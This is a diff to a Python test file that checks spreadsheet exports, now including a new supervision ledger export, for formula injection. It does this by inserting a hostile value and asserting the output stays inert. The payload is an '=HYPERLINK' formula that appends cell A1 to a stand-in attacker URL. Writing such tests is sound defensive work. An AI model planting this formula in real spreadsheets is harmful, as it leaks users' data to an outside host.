@@ -3,6 +3,7 @@ exports are found by walking the code, and each is made with a hostile value in 
 
 import io
 import re
+from datetime import date
 from pathlib import Path
 
 import pytest
@@ -15,13 +16,23 @@ from dukao.lib.xlsx import FORMULA_TRIGGERS, append_rows
 from dukao.plans import selectors
 from dukao.plans.cadres import cadres_export_xlsx, cadres_import
 from dukao.plans.exports import plans_export_xlsx
+from dukao.plans.models import Task
+from dukao.supervision.exports import ledger_xlsx
+from dukao.supervision.selectors import StatusFilter, period_statuses, with_latest_progress
+from dukao.supervision.services import status_recompute
 from dukao.units.models import Cadre
 from tests.paths import FIXTURES
 
 HOSTILE = '=HYPERLINK("http://evil.invalid/?"&A1,"点此")'
 SOURCE = Path(__file__).resolve().parents[2] / "dukao"
 #: The modules that build a workbook, each covered by a test below.
-EXPORTERS = {"plans/exports.py", "plans/cadres.py", "assessment/exports.py", "audit/views.py"}
+EXPORTERS = {
+    "plans/exports.py",
+    "plans/cadres.py",
+    "assessment/exports.py",
+    "audit/views.py",
+    "supervision/exports.py",
+}
 
 
 def _formula_like_cells(content: bytes) -> list:
@@ -64,6 +75,15 @@ def test_the_cadre_register_export_and_its_round_trip(db):
     exported = cadres_export_xlsx(selectors.cadre_list())
     _assert_inert(exported)
     assert len(cadres_import(content=exported, file_name="导出.xlsx").unchanged) == 4
+
+
+def test_the_ledger_export(seed, supervisor):
+    task = Task.objects.order_by("pk").first()
+    task.name = HOSTILE
+    task.save(update_fields=["name"])
+    status_recompute(period=date(2019, 6, 1), today=date(2019, 7, 20))
+    statuses = period_statuses(supervisor, date(2019, 6, 1))
+    _assert_inert(ledger_xlsx(with_latest_progress(statuses, date(2019, 6, 1)), date(2019, 6, 1), StatusFilter()))
 
 
 def test_the_assessment_export(seed, supervisor):
